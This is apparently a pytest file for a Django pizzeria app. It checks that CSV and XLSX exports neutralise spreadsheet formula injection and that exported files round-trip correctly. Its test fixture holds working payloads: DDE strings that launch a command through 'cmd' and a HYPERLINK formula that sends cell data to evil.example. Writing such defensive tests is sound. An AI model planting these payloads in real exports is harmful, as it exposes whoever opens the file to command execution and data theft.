"""Issue 13 M3: no export hands a spreadsheet a live formula.

Shop, staff, ingredient and product names starting with =, +, -, @, a tab or a carriage return
reach every export (the dashboard's tables, the admin's export of every resource) as text with
a leading apostrophe (product.spreadsheet_formulas.neutralise_formula, the one function for all
of them); numbers, negative ones included, stay numbers; an exported file imported back restores the
original names exactly.
"""
import csv
import io
import re
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.support.import_helpers import ADMIN_URLS, FORMAT_INDEX, import_file, page_errors, snapshot, upload

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NEGATIVE_NUMBER = re.compile(r"-\d+(?:[.,]\d+)?")
EVIL = {
    "shop": "=HYPERLINK(\"http://evil.example/?\"&A1)",
    "staff": "+cmd|' /C calc'!A0",
    "product": "@SUM(1+1)*cmd|' /C calc'!A0",
    "ingredient": "-2+3+cmd|' /C calc'!A0",
    "unit": "=u",
    "unit_name": "+unité",
    "driver": "=1+1",
    "other_shop": "\t@SUM(1)",  # text cells are stripped on import: tab/CR only tested one way
}
DASHBOARD_TABLES = ["ventes-par-pizzeria", "ventes-par-jour", "ventes-par-heure", "ventes-par-canal", "ventes-par-mode",
                    "ventes-par-paiement", "produits", "commandes-en-cours", "stock", "pizzas-realisables", "mouvements"]


def _live(cell):
    """True if a spreadsheet would run this cell as a formula."""
    return isinstance(cell, str) and cell.startswith(DANGEROUS) and not NEGATIVE_NUMBER.fullmatch(cell)


def _cells(content, fmt):
    """Every cell (headers included) of an exported file, as the spreadsheet reads it."""
    if fmt == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    sheet = load_workbook(io.BytesIO(content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "formula cell in the workbook"
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


# --- the function ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, exported",
    [
        ("=1+1", "'=1+1"), ("+33 6 12", "'+33 6 12"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("'=1", "''=1"), ("''+1", "'''+1"),
        ("Margherita", "Margherita"), ("'quoted'", "'quoted'"), ("", ""), ("-3", "-3"), ("-3,5", "-3,5"),
        ("-12.50", "-12.50"), (Decimal("-3.5"), Decimal("-3.5")), (-7, -7), (2.5, 2.5), (None, None),
    ],
)
def test_text_formulas_get_one_apostrophe_and_numbers_stay_numbers(value, exported):
    from product.spreadsheet_formulas import neutralise_formula, restore_formula_text

    assert neutralise_formula(value) == exported
    assert restore_formula_text(exported) == value


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r 1,.aZ")), max_size=8) | st.text(max_size=12))
def test_neutralise_then_restore_gives_back_any_text(text):
    from product.spreadsheet_formulas import neutralise_formula, restore_formula_text

    exported = neutralise_formula(text)
    assert not _live(exported)
    assert restore_formula_text(exported) == text


# --- the dashboard ------------------------------------------------------------------------------


@pytest.fixture
def evil_names(shops, demo_users):
    from pizzeria.models import StockMovement
    from pizzeria.services import adjust_stock
    from product.models import Ingredient, Product

    bastille = shops["bastille"]
    bastille.name = EVIL["shop"]
    bastille.save(update_fields=["name"])
    montmartre = shops["montmartre"]
    montmartre.name = EVIL["other_shop"]
    montmartre.save(update_fields=["name"])
    manager = demo_users["manager"]
    manager.first_name, manager.last_name = EVIL["staff"], ""
    manager.save(update_fields=["first_name", "last_name"])
    Product.objects.filter(slug="margherita").update(name=EVIL["product"])
    mozzarella = Ingredient.objects.get(name="Mozzarella")
    mozzarella.name = EVIL["ingredient"]
    mozzarella.save(update_fields=["name"])
    adjust_stock(pizzeria=bastille, ingredient=mozzarella, delta=Decimal("-7"), reason=StockMovement.Reason.LOSS, by=manager)
    driver = demo_users["driver"]
    driver.first_name, driver.last_name = EVIL["driver"], ""
    driver.save(update_fields=["first_name", "last_name"])
    adjust_stock(pizzeria=bastille, ingredient=mozzarella, delta=Decimal("5"), reason=StockMovement.Reason.DELIVERY, by=driver)
    return bastille


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_dashboard_export_neutralises_names_and_keeps_numbers(evil_names, demo_users, client_for, fmt):
    from django.utils import timezone

    from demo.sample import generate_orders
    from product.models import Product

    today = timezone.localdate()  # sales of the evil product in the evil shop
    generate_orders(pizzerias=[evil_names], products=list(Product.objects.filter(slug="margherita")), count=12,
                    first_day=today - timezone.timedelta(days=2), last_day=today - timezone.timedelta(days=1), seed=13)
    client = client_for(demo_users["head_office"])
    seen = ""
    for slug in DASHBOARD_TABLES:
        response = client.get(f"/admin/tableau-de-bord/export/{slug}.{fmt}", {"period": "7d"})
        assert response.status_code == 200, slug
        cells = _cells(response.content, fmt)
        live = [cell for row in cells for cell in row if _live(cell)]
        assert live == [], (slug, live)
        seen += repr(cells)
        if slug == "mouvements":
            header, *rows = cells
            loss = next(row for row in rows if row[header.index("par")] == "'" + f"{EVIL['staff']} <gerant@ocpizza.fr>")
            delta = loss[header.index("variation")]
            assert delta == (-7 if fmt == "xlsx" else "-7")  # a negative number stays a number
            assert loss[header.index("pizzeria")] == "'" + EVIL["shop"]
        if slug == "stock":
            assert "'" + EVIL["shop"] in cells[0]  # shop names are the stock table's column headers
    for name in ("shop", "product", "ingredient", "staff", "driver", "other_shop"):
        assert repr("'" + EVIL[name])[1:-1] in seen, name


# --- the admin exports of every resource, and the round trip -------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", ["unites", "ingredients", "produits", "recettes", "inventaire"])
def test_every_resource_export_neutralises_and_imports_back_unchanged(evil_names, demo_users, client_for, kind, fmt):
    from pizzeria.models import Stock
    from product.models import Ingredient, Product, Unit

    unit = Unit.objects.get(symbol="pc")
    unit.symbol, unit.name = EVIL["unit"], EVIL["unit_name"]
    unit.save(update_fields=["symbol", "name"])
    Product.objects.filter(slug="reine").update(description="=1+1 et -2+3")
    client = client_for(demo_users["head_office"])
    response = client.post(ADMIN_URLS[kind] + "export/", {"resource": "0", "format": FORMAT_INDEX[fmt]})
    assert response.status_code == 200
    cells = _cells(response.content, fmt)
    assert [cell for row in cells for cell in row if _live(cell)] == []
    flat = [cell for row in cells for cell in row]
    expected = {
        "unites": EVIL["unit"], "ingredients": EVIL["ingredient"], "produits": EVIL["product"],
        "recettes": EVIL["ingredient"], "inventaire": EVIL["ingredient"],
    }[kind]
    assert "'" + expected in flat

    before = snapshot()
    preview, _done = import_file(client, kind, response.content, fmt=fmt)
    assert {row.import_type for row in preview.context["result"].rows} == {"skip"}, page_errors(preview)
    assert snapshot() == before
    assert Unit.objects.filter(symbol=EVIL["unit"], name=EVIL["unit_name"]).exists()
    assert Ingredient.objects.filter(name=EVIL["ingredient"]).exists()
    assert Product.objects.get(slug="margherita").name == EVIL["product"]
    assert Stock.objects.filter(ingredient__name=EVIL["ingredient"]).exists()


@pytest.mark.django_db
def test_export_of_ticked_rows_is_neutralised_too(evil_names, demo_users, client_for):
    from product.models import Product

    client = client_for(demo_users["head_office"])
    margherita = Product.objects.get(slug="margherita")
    response = client.post(
        ADMIN_URLS["produits"] + "export/",
        {"resource": "0", "format": FORMAT_INDEX["csv"], "export_items": [str(margherita.pk)]},
    )
    assert response.status_code == 200
    header, *rows = _cells(response.content, "csv")
    assert [row[1] for row in rows] == ["'" + EVIL["product"]]


@pytest.mark.django_db
def test_a_typed_apostrophe_formula_survives_the_round_trip(demo_users, client_for):
    """A name that really starts with an apostrophe keeps it: only our apostrophe is removed."""
    from product.models import Product

    client = client_for(demo_users["head_office"])
    Product.objects.filter(slug="reine").update(name="'=citation")
    response = client.post(ADMIN_URLS["produits"] + "export/", {"resource": "0", "format": FORMAT_INDEX["csv"]})
    assert "''=citation" in response.content.decode("utf-8-sig")
    preview, _done = import_file(client, "produits", response.content)
    assert {row.import_type for row in preview.context["result"].rows} == {"skip"}
    assert Product.objects.get(slug="reine").name == "'=citation"
    # a file typed by hand with "=…" imports the text as typed (it is only a name)
    preview = upload(client, "produits", "identifiant;nom;prix\r\nreine;=1+1;11\r\n".encode())
    assert preview.context["confirm_form"] is not None, page_errors(preview)
